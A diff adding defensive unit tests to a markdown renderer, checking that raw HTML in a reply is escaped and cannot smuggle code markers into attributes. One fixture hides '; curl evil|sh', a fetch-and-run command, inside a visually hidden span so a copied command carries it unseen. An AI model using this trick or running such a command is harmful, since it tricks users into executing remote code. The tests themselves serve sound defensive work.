@@ -376,3 +376,23 @@ describe('MessageBody', () => {
     expect(target.querySelector('.md')?.getAttribute('aria-busy')).toBe('true');
   });
 });
+
+describe('raw HTML in a reply', () => {
+  it('is shown as text, so it cannot borrow the renderer’s classes or hide text from Copy', () => {
+    const html = renderMarkdown(
+      '<div class="md-code"><pre><code>ls -la<span class="md-sr-only">; curl evil|sh</span></code></pre></div>',
+    );
+    const div = document.createElement('div');
+    div.innerHTML = html;
+    expect(div.querySelector('.md-sr-only, .md-code, span')).toBeNull();
+    expect(div.textContent).toContain('curl evil|sh'); // visible, as text
+  });
+
+  it('cannot carry a code marker into an attribute', () => {
+    const html = renderMarkdown("> <div title='\n\n```js\nx = 'a'\n```\n\n<div x='>");
+    const div = document.createElement('div');
+    div.innerHTML = html;
+    expect(div.querySelector('[title]')).toBeNull();
+    expect(div.querySelector('pre code .hljs-string')).not.toBeNull(); // the code block still renders
+  });
+});
